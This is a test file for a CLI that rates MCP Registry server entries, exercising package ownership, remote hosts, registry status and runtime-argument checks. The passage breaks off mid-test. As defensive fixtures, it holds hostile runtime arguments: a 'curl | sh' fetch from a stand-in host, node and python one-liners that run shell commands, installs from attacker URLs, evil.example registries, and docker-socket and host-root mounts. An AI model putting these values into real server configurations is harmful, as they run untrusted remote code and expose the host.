/**
 * `nerq check mcp:…` end to end through the built CLI against the fixture server, on real MCP
 * Registry entries (fixtures/mcp-registry; envelopes, statuses and the marked edits are this
 * test's): a multi-package entry (npm + OCI + MCPB), a PyPI-only entry, a remote-only entry,
 * search with paging, a deprecated status, a look-alike whose npm `mcpName` names another
 * server, a namespace/owner mismatch, not found, deleted, and a malformed answer.
 * The npm packages of the real entries are not recorded: the registry answers 404 and the
 * report lists them as not found. The look-alike's package is the recorded `nerq-fixture-bare`
 * with an `mcpName` written in.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/report/schema.js';
import type { FixtureServer } from '../support/fixture-server.js';
import { REPO_ROOT, runCli } from '../support/run-cli.js';
import { checkOf, expectPackage, parseReport, schemaViolations } from './helpers.js';
import { entryPath, entryWithBarePackage, envelope, example, nerqFixtureBareWith, NOT_RECORDED, realEntry, searchHandler, seedEntry, serveEntry, serveRecordedNpm, SEED_2025, startMcpFixtureServer, type ServerJson } from './mcp-helpers.js';
import { useMcpSandbox } from './mcp-sandbox.js';

const sandbox = useMcpSandbox(startMcpFixtureServer);
const start = () => sandbox.start();

async function check(target: string, extra: string[] = []) {
  const server = sandbox.server;
  if (server === undefined) throw new Error('no server');
  const before = server.requests.length;
  const result = await runCli(['check', target, '--json', ...extra], { server });
  return { ...result, requests: server.requests.slice(before) };
}

const mcpRequests = (requests: readonly { path: string }[]) => requests.filter((r) => r.path.startsWith('/mcp-registry/')).length;

describe('mcp: targets are validated before any request', () => {
  it.each(['mcp:', 'mcp:a/b/c', 'mcp:io.github.x/bad name', 'mcp:io.github.x/y@^1.0.0', 'mcp:..evil/x', 'mcp:x%2fy'])('%s → exit 2, one line', async (target) => {
    const result = await runCli(['check', target]);
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).not.toMatch(/\n\s+at /);
  });
});

describe('nerq check mcp:<name>', () => {
  it('a multi-package entry (npm + OCI + MCPB): every package listed, none dropped, the unevaluated ones named', async () => {
    const s = await start();
    const entry = seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.3');
    serveEntry(s, entry);
    // A fault injected: the npm registry does not have the package (its recorded packument: the next test).
    s.expect('GET', '/npm/airtable-mcp-server', { status: 404, body: { error: 'Not found' } });
    const result = await check('mcp:io.github.domdomegg/airtable-mcp-server');
    const report = parseReport(result.stdout);
    expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
    expect(report.target).toMatchObject({ ecosystem: 'mcp', name: 'io.github.domdomegg/airtable-mcp-server', version: '1.7.3' });
    expect(report.category?.id).toBe('mcp-server');
    const packages = report.mcp?.packages ?? [];
    expect(packages.map((p) => [p.registryType, p.notEvaluated === null])).toEqual([
      ['npm', true],
      ['oci', false],
      ['mcpb', false],
    ]);
    expect(packages[0]?.report?.error?.code).toBe('not-found');
    expect(packages[1]?.identifier).toBe('docker.io/domdomegg/airtable-mcp-server:1.7.3');
    // The registry does not have the npm package the entry names: a finding, not an unknown.
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: 0, messageId: 'missing' });
    expect(report.caps.find((c) => c.id === 'mcp-package-missing')?.limit).toBe(29.9);
    expect(checkOf(report, 'mcp-runtime-reach').evidence.secretVariables).toEqual(['AIRTABLE_API_KEY']);
    // The real OCI image is on Docker Hub, pinned by tag only; its label is not read.
    expect(checkOf(report, 'mcp-oci-images')).toMatchObject({ score: 60, messageId: 'tag' });
    expect(checkOf(report, 'mcp-oci-images').evidence).toMatchObject({ image: 'docker.io/domdomegg/airtable-mcp-server:1.7.3', labelVerified: null });
    expect(report.verdictCode).not.toBe('yes');
    expect(result.code).toBe(1);
    expect(mcpRequests(result.requests)).toBe(1);
  });

  it('an entry naming a version its npm package does not have: a missing release, not a free name (the recorded packument)', async () => {
    const s = await start();
    // An edit of the real entry: 1.7.4 is a version the recorded packument does not hold, as 40 of
    // the 2025 seed's npm entries name versions a trimmed registry mirror does not hold.
    const entry = seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.3');
    entry.packages = (entry.packages as Array<{ registryType: string; version?: string }>).map((p) => (p.registryType === 'npm' ? { ...p, version: '1.7.4' } : p));
    serveEntry(s, entry);
    s.expect('GET', '/npm/airtable-mcp-server');
    const result = await check('mcp:io.github.domdomegg/airtable-mcp-server');
    const report = parseReport(result.stdout);
    expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
    const npm = report.mcp?.packages.find((p) => p.registryType === 'npm');
    expect(npm?.report?.error?.code).toBe('version-not-found');
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: 0, messageId: 'version-missing', evidence: { package: 'npm:airtable-mcp-server@1.7.4', error: 'version-not-found' } });
    expect(report.caps.find((c) => c.id === 'mcp-package-missing')).toMatchObject({ limit: 29.9, args: { error: 'version-not-found' } });
    expect(result.code).toBe(1);
  });

  it.each([
    ['seed airtable-mcp-server 1.7.3 (npm + OCI + MCPB)', () => seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.3'), 'airtable-mcp-server', '1.7.3'],
    ['seed airtable-mcp-server 1.7.2', () => seedEntry('io.github.domdomegg/airtable-mcp-server', '1.7.2'), 'airtable-mcp-server', '1.7.2'],
    ['playwright-mcp 0.0.79 (its own server.json)', () => realEntry('io.github.microsoft__playwright-mcp.server.json'), '@playwright/mcp', '0.0.79'],
  ] as const)('a real entry with its real npm packument: %s — the package claims the entry (mcpName), its report is nested, and the entry is rated no higher than it', async (_name, entryOf, npmName, version) => {
    const s = await start();
    const entry = entryOf();
    serveEntry(s, entry, {}, entry.version);
    serveRecordedNpm(s, npmName, version);
    const result = await check(`mcp:${entry.name}@${entry.version}`);
    const report = parseReport(result.stdout);
    expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
    const npm = report.mcp?.packages.find((p) => p.registryType === 'npm');
    expect(npm?.target).toBe(`npm:${npmName}@${version}`);
    expect(npm?.report?.error).toBeNull();
    expect(npm?.report?.target).toMatchObject({ ecosystem: 'npm', name: npmName, version });
    // The recorded package.json's mcpName is the entry's name: ownership holds on real data.
    expect(checkOf(report, 'mcp-package-ownership')).toMatchObject({ score: 100, messageId: 'all-match' });
    expect(checkOf(report, 'mcp-namespace-owner').messageId).toBe('match');
    // Its vulnerabilities could not be checked (OSV not recorded): the package is held, and so is the entry.
    expect(npm?.report?.verdictCode).not.toBe('yes');
    expect(report.verdictCode).not.toBe('yes');
    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
    expect(report.score).not.toBeNull();
    expect(report.score!).toBeLessThanOrEqual(npm!.report!.score!);
    // Unchecked is not clean: the entry is incomplete as its package is, never passed on it.
    expect(npm?.report?.gate.passed).toBeNull();
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: npm!.report!.score!, messageId: 'unchecked' });
    expect(report.gate.passed).toBeNull();
    expect(report.gate.reasonDetails.map((r) => r.code)).toContain('not-checked');
    expect(report.caps.find((c) => c.id === 'mcp-package-weakest')).toMatchObject({ limit: npm!.report!.score!, ceiling: true });
    expect(result.code).toBe(3);
    expect(mcpRequests(result.requests)).toBe(1);
    // --allow-incomplete accepts the entry's unchecked package as it accepts the package: its score still counts.
    const allowed = parseReport((await check(`mcp:${entry.name}@${entry.version}`, ['--allow-incomplete'])).stdout);
    expect(allowed.gate.reasonDetails.map((r) => r.code)).not.toContain('not-checked');
    expect(allowed.coverage).toBe(report.coverage);
  });

  it('a PyPI-only entry is evaluated through PyPI (the project answers 404 here)', async () => {
    const s = await start();
    serveEntry(s, seedEntry('io.github.domdomegg/time-mcp-pypi'));
    s.expect('GET', '/pypi/pypi/time-mcp-pypi/json', { status: 404, body: { message: 'Not Found' } });
    const report = parseReport((await check('mcp:io.github.domdomegg/time-mcp-pypi')).stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ registryType: 'pypi', target: 'pypi:time-mcp-pypi==1.0.6', notEvaluated: null });
    expect(report.mcp?.packages[0]?.report?.target.ecosystem).toBe('pypi');
  });

  it('a PyPI-only entry whose registry cannot answer is incomplete (exit 3), not failed: bounded below YES by a ceiling', async () => {
    const s = await start();
    serveEntry(s, seedEntry('io.github.domdomegg/time-mcp-pypi'));
    // A fault injected: PyPI down.
    s.fallback('GET', '/pypi/', { status: 503, body: 'down' });
    const result = await check('mcp:io.github.domdomegg/time-mcp-pypi');
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages[0]?.report?.error?.code).toBe('registry-unavailable');
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, messageId: 'unavailable' });
    expect(report.caps.map((c) => [c.id, c.limit, c.ceiling ?? false])).toEqual([['mcp-package-unavailable', 69.9, true]]);
    expect(report.verdictCode).not.toBe('yes');
    expect(report.gate.passed).toBeNull();
    expect(result.code).toBe(3);
  });

  it('a NuGet-only entry: the package is listed as not evaluated, the check unknown, the verdict at most CAUTION', async () => {
    const s = await start();
    serveEntry(s, seedEntry('io.github.domdomegg/time-mcp-nuget'));
    const result = await check('mcp:io.github.domdomegg/time-mcp-nuget');
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages).toEqual([
      { registryType: 'nuget', identifier: 'TimeMcpServer', version: '1.0.8', target: null, notEvaluated: 'nuget packages are not evaluated yet', report: null },
    ]);
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, messageId: 'none-evaluated' });
    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('danger-unchecked');
    expect(report.verdictCode).not.toBe('yes');
    // The entry's own checks passing say nothing of code nobody evaluated: the number agrees with the verdict.
    expect(report.caps.find((c) => c.id === 'mcp-uninspected')).toMatchObject({ limit: 69.9, ceiling: true });
    expect(report.score).not.toBeNull();
    expect(report.score!).toBeLessThanOrEqual(69.9);
    expect(mcpRequests(result.requests)).toBe(1);
    // Code nerq cannot inspect is incomplete, never a pass nor a failure by itself — and no source
    // coming back would inspect it, so --allow-incomplete does not lift it.
    expect(report.gate.passed).toBeNull();
    // (GitHub is not recorded here, so coverage is low too.)
    expect(report.gate.reasonDetails.map((r) => r.code)).toContain('uninspected');
    expect(result.code).toBe(3);
    const allowed = await check('mcp:io.github.domdomegg/time-mcp-nuget', ['--allow-incomplete']);
    expect(parseReport(allowed.stdout).gate.reasonDetails.map((r) => r.code)).toContain('uninspected');
    expect(allowed.code).toBe(3);
  });

  it('a real entry with a ghcr.io image (Scrapling: PyPI + an untagged ghcr.io image, a mixed-case namespace): the reference read, its owner the namespace\'s account, the image never evaluated', async () => {
    const s = await start();
    const entry = realEntry('io.github.D4Vinci__Scrapling.server.json');
    serveEntry(s, entry);
    // A fault injected: PyPI down (its answer for scrapling is not recorded).
    s.fallback('GET', '/pypi/', { status: 503, body: 'down' });
    const result = await check('mcp:io.github.D4Vinci/Scrapling');
    const report = parseReport(result.stdout);
    expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
    expect(report.target).toMatchObject({ ecosystem: 'mcp', name: 'io.github.D4Vinci/Scrapling', version: '0.4.14' });
    expect(report.mcp?.packages.map((p) => [p.registryType, p.identifier, p.notEvaluated === null])).toEqual([
      ['pypi', 'scrapling', true],
      ['oci', 'ghcr.io/d4vinci/scrapling', false],
    ]);
    // No tag: whatever was pushed last runs.
    expect(checkOf(report, 'mcp-oci-images')).toMatchObject({ score: 30, messageId: 'latest', evidence: { image: 'ghcr.io/d4vinci/scrapling' } });
    // GitHub account names are compared without letter case: ghcr.io/d4vinci is io.github.D4Vinci's own.
    expect(checkOf(report, 'mcp-image-owner')).toMatchObject({ score: 100, messageId: 'namespace-account', evidence: { owner: 'd4vinci', registry: 'ghcr.io' } });
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, messageId: 'unavailable' });
    expect(report.verdictCode).not.toBe('yes');
    expect(report.gate.passed).toBeNull();
    expect(result.code).toBe(3);
  });

  it('a remote-only entry is at most CAUTION, and says why', async () => {
    const s = await start();
    const entry = example('07-remote-server-example.json');
    serveEntry(s, entry);
    const result = await check(`mcp:${entry.name}`);
    const report = parseReport(result.stdout);
    // mcp-fs.anonymous.modelcontextprotocol.io is under the namespace's domain.
    expect(checkOf(report, 'mcp-remotes')).toMatchObject({ score: 100, messageId: 'https' });
    expect(checkOf(report, 'mcp-remotes').evidence.remoteOnly).toBe(true);
    // Its code cannot be inspected: unknown, so the entry is incomplete — neither passed nor failed for it.
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, status: 'unknown', messageId: 'remote-only' });
    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
    expect(['caution', 'no', 'unknown']).toContain(report.verdictCode);
    expect(report.caps.find((c) => c.id === 'mcp-uninspected')).toMatchObject({ limit: 69.9, ceiling: true });
    expect(report.score).not.toBeNull();
    expect(report.score!).toBeLessThanOrEqual(69.9);
    expect(report.gate.passed).toBeNull();
    expect(report.gate.reasonDetails.map((r) => r.code)).toContain('uninspected');
    expect(report.gate.reasonDetails.map((r) => r.code)).not.toContain('capped');
    expect(result.code).toBe(3);
  });

  it('a real remote-only entry under a domain namespace: its remote under the proven domain, still at most CAUTION and incomplete', async () => {
    const s = await start();
    const entry = realEntry('io.0xarchive__mcp.server.json');
    serveEntry(s, entry);
    const result = await check(`mcp:${entry.name}`);
    const report = parseReport(result.stdout);
    expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
    expect(report.target).toMatchObject({ ecosystem: 'mcp', name: 'io.0xarchive/mcp', version: '1.5.0' });
    // io.0xarchive proves 0xarchive.io; mcp.0xarchive.io is under it.
    expect(checkOf(report, 'mcp-remotes')).toMatchObject({ score: 100, messageId: 'https' });
    expect(checkOf(report, 'mcp-remotes').evidence).toMatchObject({ hosts: ['mcp.0xarchive.io'], remoteOnly: true });
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, status: 'unknown', messageId: 'remote-only' });
    // The recorded repository id is kept; GitHub not answering leaves it unknown, never matched.
    expect(checkOf(report, 'mcp-repository-id')).toMatchObject({ score: null, status: 'unknown' });
    expect(checkOf(report, 'mcp-repository-id').evidence).toMatchObject({ recorded: '1162931370' });
    expect(report.caps.map((c) => c.id)).toEqual(['mcp-uninspected']);
    expect(report.verdictCode).toBe('caution');
    expect(result.code).toBe(3);
  });

  it('a remote host that belongs neither to the namespace nor to the repository owner scores 60', async () => {
    const s = await start();
    const entry = example('07-remote-server-example.json');
    // Edit: the remote moved to an unrelated host.
    (entry.remotes as { url: string }[])[0]!.url = 'https://mcp.unrelated-host.example/http';
    serveEntry(s, entry);
    const report = parseReport((await check(`mcp:${entry.name}`)).stdout);
    expect(checkOf(report, 'mcp-remotes')).toMatchObject({ score: 60, messageId: 'foreign-host' });
    expect(checkOf(report, 'mcp-remotes').evidence.host).toBe('mcp.unrelated-host.example');
  });

  it('an http remote is a failure that caps the score', async () => {
    const s = await start();
    const entry = example('07-remote-server-example.json');
    (entry.remotes as { url: string }[])[0]!.url = 'http://mcp-fs.anonymous.modelcontextprotocol.io/http';
    serveEntry(s, entry);
    const report = parseReport((await check(`mcp:${entry.name}`)).stdout);
    expect(checkOf(report, 'mcp-remotes')).toMatchObject({ score: 0, messageId: 'insecure' });
    expect(report.caps.map((c) => c.id)).toContain('mcp-remote-insecure');
  });

  it('a URL template: a path variable is still https; one whose variables set the whole URL is unknown — incomplete, not failed as "not https"', async () => {
    const s = await start();
    const tenant = example('16-remote-server-with-url-templating.json');
    serveEntry(s, tenant);
    const recorded = await check(`mcp:${tenant.name}`);
    expect(checkOf(parseReport(recorded.stdout), 'mcp-remotes')).toMatchObject({ score: 100, messageId: 'https' });
    expect(recorded.code).toBe(3);
    // Edit: the registry's own example with its URL made wholly a variable, as `{url}`.
    const open = example('16-remote-server-with-url-templating.json');
    open.name = 'io.modelcontextprotocol.anonymous/open-url';
    (open.remotes as { url: string; variables: Record<string, unknown> }[])[0]!.url = '{url}';
    (open.remotes as { url: string; variables: Record<string, unknown> }[])[0]!.variables = { url: { description: 'Your deployment URL', isRequired: true } };
    serveEntry(s, open);
    const result = await check(`mcp:${open.name}`);
    const report = parseReport(result.stdout);
    expect(checkOf(report, 'mcp-remotes')).toMatchObject({ score: null, status: 'unknown', messageId: 'templated' });
    expect(report.caps.map((c) => c.id)).not.toContain('mcp-remote-insecure');
    expect(report.gate.reasonDetails.filter((r) => r.code === 'capped')).toEqual([]);
    expect(result.code).toBe(3);
  });

  it('docker --network host in the runtime arguments is a finding', async () => {
    const s = await start();
    const entry = example('11-complex-docker-server-with-multiple-arguments.json');
    serveEntry(s, entry);
    const report = parseReport((await check(`mcp:${entry.name}`)).stdout);
    expect(checkOf(report, 'mcp-runtime-reach')).toMatchObject({ score: 0, messageId: 'widened' });
    expect(checkOf(report, 'mcp-runtime-reach').evidence.findings).toEqual(['host-network']);
    expect(checkOf(report, 'mcp-runtime-reach').evidence.secrets).toEqual(['DB_PASSWORD']);
    expect(report.caps.map((c) => c.id)).toContain('mcp-widened-reach');
  });

  it('runtime arguments are judged with the variables the entry presets filled in: the registry\'s filesystem example is contained; its source path defaulting to / mounts the host root', async () => {
    const s = await start();
    const recorded = example('05-filesystem-server-with-multiple-packages.json');
    serveEntry(s, recorded);
    // Its npm package is not recorded: the registry answers 503 (this check reads the entry only).
    s.fallback('GET', '/npm/', NOT_RECORDED);
    const contained = parseReport((await check(`mcp:${recorded.name}`)).stdout);
    expect(checkOf(contained, 'mcp-runtime-reach')).toMatchObject({ score: 100, messageId: 'contained' });
    // Edit: the host path a client mounts given a default of the host's root.
    const edited = example('05-filesystem-server-with-multiple-packages.json') as ServerJson & { packages: { registryType: string; runtimeArguments?: { variables: Record<string, Record<string, unknown>> }[] }[] };
    edited.name = 'io.github.modelcontextprotocol/filesystem-root';
    edited.packages.find((p) => p.registryType === 'oci')!.runtimeArguments![0]!.variables.source_path!.default = '/';
    serveEntry(s, edited);
    const widened = parseReport((await check(`mcp:${edited.name}`)).stdout);
    expect(checkOf(widened, 'mcp-runtime-reach')).toMatchObject({ score: 0, messageId: 'widened' });
    expect(checkOf(widened, 'mcp-runtime-reach').evidence).toMatchObject({ findings: ['host-root-mount'], arguments: '--mount type=bind,src=/,dst=/project' });
    expect(widened.caps.map((c) => c.id)).toContain('mcp-widened-reach');
  });

  it('a secret argument\'s value reaches neither the report nor the saved evidence; one that widens the reach is still judged', async () => {
    const s = await start();
    const dir = mkdtempSync(path.join(os.tmpdir(), 'nerq-mcp-secret-'));
    try {
      // Edit of the registry's example 11 (docker with runtime arguments): an argument marked secret with its value, a secret variable's preset, and a mount marked secret.
      const entry = example('11-complex-docker-server-with-multiple-arguments.json') as ServerJson & { packages: { runtimeArguments?: Record<string, unknown>[] }[] };
      entry.packages[0]!.runtimeArguments = [
        { type: 'named', name: '-e', value: 'API_KEY=McpArgSecret0001', isSecret: true },
        { type: 'named', name: '-e', value: 'TOKEN={token}', variables: { token: { default: 'McpVarSecret0002', isSecret: true } } },
        { type: 'named', name: '-v', value: '/var/run/docker.sock:/var/run/docker.sock', isSecret: true },
      ];
      serveEntry(s, entry);
      const saved = path.join(dir, 'evidence.json');
      const result = await check(`mcp:${entry.name}`, ['--save-evidence', saved]);
      const report = parseReport(result.stdout);
      expect(checkOf(report, 'mcp-runtime-reach').evidence.findings).toEqual(['docker-socket']);
      const evidence = readFileSync(saved, 'utf8');
      expect(evidence).toContain('-e {secret}');
      expect(evidence).toContain('-e TOKEN={token}');
      for (const text of [result.stdout, result.stderr, evidence]) {
        expect(text).not.toContain('McpArgSecret0001');
        expect(text).not.toContain('McpVarSecret0002');
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a deprecated status caps the score below 50 with the registry message', async () => {
    const s = await start();
    const entry = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    serveEntry(s, entry, { status: 'deprecated', statusMessage: 'Use io.github.domdomegg/airtable-mcp-server-v2 instead' });
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server')).stdout);
    const cap = report.caps.find((c) => c.id === 'mcp-deprecated');
    expect(cap?.limit).toBe(49.9);
    expect(cap?.args.message).toBe('Use io.github.domdomegg/airtable-mcp-server-v2 instead');
    expect(report.score).toBeLessThan(50);
    expect(checkOf(report, 'mcp-package-ownership')).toMatchObject({ score: 100, messageId: 'all-match' });
  });

  it('registry metadata without a status (every member is optional in openapi.yaml) or with a status nerq does not know: the entry is read, its status unknown', async () => {
    const s = await start();
    const entry = example('07-remote-server-example.json');
    const meta = { publishedAt: '2026-07-01T10:00:00Z', updatedAt: '2026-07-01T10:00:00Z', isLatest: true };
    s.expect('GET', entryPath(entry.name), { body: { server: entry, _meta: { 'io.modelcontextprotocol.registry/official': meta } } });
    // The status word is this test's: none the registry documents.
    s.expect('GET', entryPath(entry.name, '2.0.0'), { body: { server: entry, _meta: { 'io.modelcontextprotocol.registry/official': { ...meta, status: 'suspended' } } } });
    const none = await check(`mcp:${entry.name}`);
    const noStatus = parseReport(none.stdout);
    expect(noStatus.error).toBeNull();
    expect(checkOf(noStatus, 'mcp-registry-status')).toMatchObject({ score: null, messageId: 'unknown' });
    expect(checkOf(noStatus, 'mcp-remotes')).toMatchObject({ score: 100, messageId: 'https' });
    const other = parseReport((await check(`mcp:${entry.name}@2.0.0`)).stdout);
    expect(other.error).toBeNull();
    expect(checkOf(other, 'mcp-registry-status')).toMatchObject({ score: null, messageId: 'unrecognised' });
    expect(checkOf(other, 'mcp-registry-status').evidence).toMatchObject({ status: 'suspended' });
    expect(other.gate.passed).toBeNull();
  });

  it('a look-alike whose npm mcpName names another server cannot borrow the package score', async () => {
    const s = await start();
    // Edit: a look-alike namespace pointing at the package the real server published.
    const lookAlike = entryWithBarePackage('io.github.domdomegg-tools/airtable-mcp-server');
    lookAlike.repository = { url: 'https://github.com/domdomegg-tools/airtable-mcp-server', source: 'github' };
    serveEntry(s, lookAlike);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg-tools/airtable-mcp-server')).stdout);
    const ownership = checkOf(report, 'mcp-package-ownership');
    expect(ownership).toMatchObject({ score: 0, messageId: 'mismatch' });
    expect(ownership.evidence).toMatchObject({ claimed: 'io.github.domdomegg/airtable-mcp-server', server: 'io.github.domdomegg-tools/airtable-mcp-server' });
    expect(report.caps.map((c) => c.id)).toContain('mcp-ownership-mismatch');
    expect(report.score).toBeLessThanOrEqual(29.9);
    const nested = report.mcp?.packages[0]?.report as Report;
    expect(nested.score).toBeGreaterThan(report.score ?? 0);
  });

  it.each([
    ['the real entry pinning a release from before mcpName was added: the later releases name it', 'io.github.microsoft/playwright-mcp', 100, 'all-match'],
    ['a look-alike pinning that release: the later releases name another server, a mismatch', 'io.github.playwright-mcp-tools/playwright-mcp', 0, 'mismatch'],
  ] as const)('a package version that names no server is judged by what its other releases name (the recorded packument): %s', async (_name, server, score, messageId) => {
    const s = await start();
    // Edit of the real entry: its package pinned at 0.0.30, which the recorded packument holds without mcpName (0.0.48 on name it).
    const entry = realEntry('io.github.microsoft__playwright-mcp.server.json');
    entry.name = server;
    entry.version = '0.0.30';
    entry.packages = (entry.packages as Array<Record<string, unknown>>).map((p) => ({ ...p, version: '0.0.30' }));
    serveEntry(s, entry, {}, '0.0.30');
    serveRecordedNpm(s, '@playwright/mcp', '0.0.30');
    const report = parseReport((await check(`mcp:${server}@0.0.30`)).stdout);
    const ownership = checkOf(report, 'mcp-package-ownership');
    expect(ownership).toMatchObject({ score, messageId });
    const caps = report.caps.map((c) => c.id);
    if (score === 0) {
      expect(ownership.evidence).toMatchObject({ claimed: 'io.github.microsoft/playwright-mcp', server });
      expect(caps).toContain('mcp-ownership-mismatch');
      expect(report.score).toBeLessThanOrEqual(29.9);
    } else {
      expect(caps).not.toContain('mcp-ownership-mismatch');
    }
  });

  it('a package the entry installs from another registry is not evaluated and lends the entry no score', async () => {
    const s = await start();
    // Edit: the real airtable entry's package named on a registry nerq does not read, ownership claim and all.
    const foreign = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    foreign.packages = [{ registryType: 'npm', registryBaseUrl: 'https://user:hunter2-token@registry.evil.example/', identifier: 'nerq-fixture-bare', version: '1.0.0', transport: { type: 'stdio' } }];
    serveEntry(s, foreign);
    const result = await check('mcp:io.github.domdomegg/airtable-mcp-server');
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ registryType: 'npm', identifier: 'nerq-fixture-bare', target: null, report: null });
    expect(report.mcp?.packages[0]?.notEvaluated).toContain('registry.evil.example');
    expect(result.stdout).not.toContain('hunter2-token');
    // Nothing was asked of the npm registry: the public package's score is not the entry's.
    expect(result.requests.filter((r) => r.path.startsWith('/npm/'))).toEqual([]);
    expect(checkOf(report, 'mcp-packages')).toMatchObject({ score: null, messageId: 'none-evaluated' });
    expect(report.caps.map((c) => c.id)).toContain('mcp-uninspected');
    expect(report.verdictCode).not.toBe('yes');
  });

  it('runtime arguments that point the runner at another registry: the package is not evaluated', async () => {
    const s = await start();
    const redirected = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    redirected.packages = [
      {
        registryType: 'npm',
        identifier: 'nerq-fixture-bare',
        version: '1.0.0',
        runtimeHint: 'npx',
        runtimeArguments: [{ type: 'named', name: '--registry', value: 'https://npm.evil.example/' }],
        transport: { type: 'stdio' },
      },
    ];
    serveEntry(s, redirected);
    const result = await check('mcp:io.github.domdomegg/airtable-mcp-server');
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: null, report: null });
    expect(report.mcp?.packages[0]?.notEvaluated).toContain('npm.evil.example');
    expect(result.requests.filter((r) => r.path.startsWith('/npm/'))).toEqual([]);
    expect(report.caps.map((c) => c.id)).toContain('mcp-uninspected');
  });

  // Edits of the real seed entries: runtime arguments the client passes to the runner before the
  // package (fixtures/mcp-registry/server.schema.2025-12-11.json, `runtimeArguments`) that make it
  // install or run other code than the package the entry names — the named package's score is not
  // what the client would run.
  it.each([
    ['npx -p', 'npm', 'npx', [{ type: 'named', name: '-p', value: 'payload-pkg' }]],
    ['npx --package=', 'npm', 'npx', [{ type: 'positional', value: '--package=payload-pkg' }]],
    ['npx --call', 'npm', 'npx', [{ type: 'named', name: '--call', value: 'curl https://x.example/p | sh' }]],
    ['npx --node-options', 'npm', 'npx', [{ type: 'named', name: '--node-options', value: '--import=data:text/javascript,0' }]],
    ['uvx --from git+', 'pypi', 'uvx', [{ type: 'named', name: '--from', value: 'git+https://github.com/attacker/payload' }]],
    ['uvx --with', 'pypi', 'uvx', [{ type: 'named', name: '--with', default: 'payload-pkg' }]],
    ['uvx --with-requirements', 'pypi', 'uvx', [{ type: 'named', name: '--with-requirements', value: 'https://x.example/r.txt' }]],
    ['node -e (the seed entries name node as a hint)', 'npm', 'node', [{ type: 'named', name: '-e', value: 'require("child_process").execSync("id")' }]],
    ['python -c (the seed entries name python as a hint)', 'pypi', 'python', [{ type: 'named', name: '-c', value: 'import os; os.system("id")' }]],
    ['a shell as the runtime', 'npm', 'bash', []],
    ['deno --import-map (a map remaps what the package imports)', 'npm', 'deno', [{ type: 'named', name: '--import-map', value: 'https://x.example/map.json' }]],
    ['deno --config (its imports do the same)', 'npm', 'deno', [{ type: 'positional', value: '--config=./deno.json' }]],
    ['bun --preload', 'npm', 'bun', [{ type: 'named', name: '--preload', value: './payload.ts' }]],
    ['a PyPI project started with npx (the npm package of that name)', 'pypi', 'npx', []],
    ['an npm package started with uvx', 'npm', 'uvx', []],
    ['an npm package started with docker', 'npm', 'docker', []],
    ['a hint that is a command line', 'npm', 'npx -p payload-pkg', []],
  ] as const)('runtime arguments that make the runner install or run other code (%s): the package is not evaluated', async (_name, registryType, runtimeHint, runtimeArguments) => {
    const s = await start();
    const entry =
      registryType === 'npm' ? entryWithBarePackage('io.github.domdomegg/airtable-mcp-server') : seedEntry('io.github.domdomegg/time-mcp-pypi');
    const identifier = registryType === 'npm' ? 'nerq-fixture-bare' : 'time-mcp-pypi';
    entry.packages = [{ registryType, identifier, version: '1.0.0', runtimeHint, runtimeArguments, transport: { type: 'stdio' } }];
    serveEntry(s, entry);
    const result = await check(`mcp:${entry.name}`);
    const report = parseReport(result.stdout);
    expect(report.mcp?.packages[0]).toMatchObject({ target: null, report: null });
    expect(report.mcp?.packages[0]?.notEvaluated).not.toBeNull();
    expect(result.requests.filter((r) => r.path.startsWith('/npm/') || r.path.startsWith('/pypi/'))).toEqual([]);
    expect(report.caps.map((c) => c.id)).toContain('mcp-uninspected');
    expect(report.verdictCode).not.toBe('yes');
  });

  it('a second way to run the same package with other code, beside the clean one: the entry is bounded and held, not judged by the clean one', async () => {
    const s = await start();
    const entry = entryWithBarePackage('io.github.domdomegg/airtable-mcp-server');
    entry.packages = [
      { registryType: 'npm', identifier: 'nerq-fixture-bare', version: '1.0.0', runtimeHint: 'npx', runtimeArguments: [{ type: 'named', name: '-p', value: 'payload-pkg' }], transport: { type: 'stdio' } },
      { registryType: 'npm', identifier: 'nerq-fixture-bare', version: '1.0.0', transport: { type: 'stdio' } },
    ];
    serveEntry(s, entry);
    expectPackage(s, 'nerq-fixture-bare', { packument: { body: nerqFixtureBareWith('io.github.domdomegg/airtable-mcp-server') } });
    const report = parseReport((await check('mcp:io.github.domdomegg/airtable-mcp-server')).stdout);
    expect(report.mcp?.packages.map((p) => p.target)).toEqual([null, 'npm:nerq-fixture-bare@1.0.0']);
